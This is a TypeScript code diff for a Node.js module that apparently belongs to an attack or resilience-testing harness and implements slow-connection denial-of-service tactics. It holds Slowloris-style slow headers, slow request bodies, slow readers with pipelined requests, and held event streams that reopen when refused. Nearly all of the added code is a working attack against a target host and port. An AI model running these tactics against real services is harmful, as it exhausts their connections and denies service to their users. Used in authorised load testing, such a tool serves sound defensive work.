@@ -1,39 +1,34 @@
 import { connect, type OnReadOpts, type Socket } from 'node:net';
-import { Counts } from './counts.ts';
-import type { Attack, AttackerPlan, Tally } from './plan.ts';
+import { type Attack, type AttackerPlan, type Begin, Counts, type TacticOf, type Tally } from './plan.ts';
+import { rawHead, rawRequest } from './raw-http.ts';
 
-/** Faster than this, connections would be refused by the system for want of room in its queue. */
+/** A higher rate would overflow the system's queue of new connections. */
 const NEW_PER_TICK = 10;
 const TICK_MS = 10;
-/** After so long, somebody who was thrown out comes again. */
+/** Delay before a closed connection is opened again. */
 const COME_AGAIN_MS = 5_000;
 const FIRST_BYTES = 64;
 
-/** One connection that is held. */
 export interface HeldConnection {
   socket: Socket;
-  /** Its place among all of them. */
   number: number;
-  /** What becomes of it, when that is something else than usual. */
   count: (what: string) => void;
-  /** Called with what was received. */
   onData: (text: string) => void;
 }
 
 export interface HoldingOptions {
-  /** Called once it is open. @returns what is done every `everyMs` */
+  /** Called once it is open. @returns an action to repeat every `everyMs` */
   hold: (connection: HeldConnection) => () => void;
   everyMs: number;
-  /** How much is received before everything stops until the socket is resumed; everything, if none is given. */
+  /** Bytes to receive before reading stops until the socket is resumed; default: no limit. */
   receiveBytes?: number;
 }
 
-/** Connections that are held for as long as the site lets them. Whoever is thrown out comes again. */
+/** Connections that are held while the site allows it, and reopened when it closes them. */
 export class HeldConnections implements Attack {
   readonly #plan: AttackerPlan;
   readonly #options: HoldingOptions;
   readonly #counts = new Counts();
-  /** Numbers of those to be opened. */
   readonly #missing: number[];
   readonly #open = new Set<Socket>();
   readonly #timers = new Set<NodeJS.Timeout>();
@@ -123,4 +118,126 @@ export class HeldConnections implements Attack {
 function fateOf(received: string): string {
   const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(received) ?? [];
   return status ? `after ${status}` : 'unanswered';
+}
+
+const nothing = () => undefined;
+
+export const slowHeaders: Begin<'slow-headers'> = (plan, { everyMs }) => {
+  const host = `${plan.host}:${plan.port}`;
+  const habits: ((connection: HeldConnection) => () => void)[] = [
+    () => nothing,
+    ({ socket }) => {
+      socket.write(rawRequest(host, { method: 'GET', path: '/-/health' }));
+      return nothing;
+    },
+    ({ socket }) => {
+      socket.write('GET / HT');
+      return nothing;
+    },
+    ({ socket }) => {
+      socket.write(rawHead(host, { method: 'GET', path: '/' }));
+      let headers = 0;
+      return () => socket.write(`x-header-${headers++}: of many\r\n`);
+    },
+  ];
+  return new HeldConnections(plan, {
+    everyMs,
+    hold: (connection) => habits[connection.number % habits.length]?.(connection) ?? nothing,
+  });
+};
+
+export const slowBodies: Begin<'slow-bodies'> = (plan, tactic) => {
+  const { method, paths, type, announcedBytes, identities, everyMs } = tactic;
+  const beginning = Buffer.alloc(tactic.beginningBytes, '{');
+  return new HeldConnections(plan, {
+    everyMs,
+    hold: ({ socket, number }) => {
+      const path = paths[number % paths.length] ?? '/';
+      const headers = {
+        ...identities[number % identities.length],
+        'content-type': type,
+        'content-length': String(announcedBytes),
+      };
+      socket.write(`${rawHead(`${plan.host}:${plan.port}`, { method, path, headers })}\r\n`);
+      socket.write(beginning);
+      return () => socket.write('{');
+    },
+  });
+};
+
+const READ_BYTES = 64;
+
+/** Every other connection reads a little now and then. All of them send further requests. */
+export const slowReaders: Begin<'slow-readers'> = (plan, { path, identity, pipelined, everyMs }) => {
+  const request = rawRequest(`${plan.host}:${plan.port}`, { method: 'GET', path, headers: identity });
+  return new HeldConnections(plan, {
+    everyMs,
+    receiveBytes: READ_BYTES,
+    hold: ({ socket, number }) => {
+      socket.write(request.repeat(pipelined));
+      return () => {
+        socket.write(request);
+        if (number % 2 === 0) socket.resume();
+      };
+    },
+  });
+};
+
+const LOOK_MS = 1_000;
+const EVENT = /^data:/gm;
+const STREAM_END = '\r\n0\r\n\r\n';
+/** A refusal's header, in seconds. */
+const RETRY_AFTER = /^retry-after: (\d+)\r$/im;
+
+type Identities = TacticOf<'streams'>['identities'];
+
+/** Counts received events, since a silent open stream would be useless. */
+export const streams: Begin<'streams'> = (plan, { path, identities }) =>
+  holdStreams(plan, streamRequests(plan, path, identities));
+
+export const hiddenTabs: Begin<'hidden-tabs'> = (plan, { path, readPath, identities }) => {
+  const reads = identities.map((headers) =>
+    rawRequest(`${plan.host}:${plan.port}`, { method: 'GET', path: readPath, headers }),
+  );
+  const opened = streamRequests(plan, path, identities);
+  // Responses arrive in order: first that of the read, then the stream.
+  return holdStreams(
+    plan,
+    opened.map((stream, index) => (reads[index] ?? '') + stream),
+  );
+};
+
+function streamRequests({ host, port }: AttackerPlan, path: string, identities: Identities): string[] {
+  return identities.map((identity) => {
+    const headers = { ...identity, accept: 'text/event-stream' };
+    return rawRequest(`${host}:${port}`, { method: 'GET', path, headers });
+  });
+}
+
+/** @param requests first requests of the connections, in turn */
+function holdStreams(plan: AttackerPlan, requests: readonly string[]): HeldConnections {
+  return new HeldConnections(plan, {
+    everyMs: LOOK_MS,
+    hold: (connection) => {
+      const request = requests[connection.number % requests.length] ?? '';
+      let hasEnded = false;
+      let waitUntil = 0;
+      connection.onData = (text) => {
+        for (const _event of text.matchAll(EVENT)) connection.count('events');
+        hasEnded ||= `\r\n${text}`.endsWith(STREAM_END);
+        const seconds = RETRY_AFTER.exec(text)?.[1];
+        if (seconds === undefined) return;
+        connection.count('streams refused');
+        hasEnded = true;
+        waitUntil = Date.now() + Number(seconds) * 1000;
+      };
+      connection.socket.write(request);
+      return () => {
+        if (!hasEnded || Date.now() < waitUntil) return;
+        hasEnded = false;
+        connection.count('streams opened again');
+        connection.socket.write(request);
+      };
+    },
+  });
 }
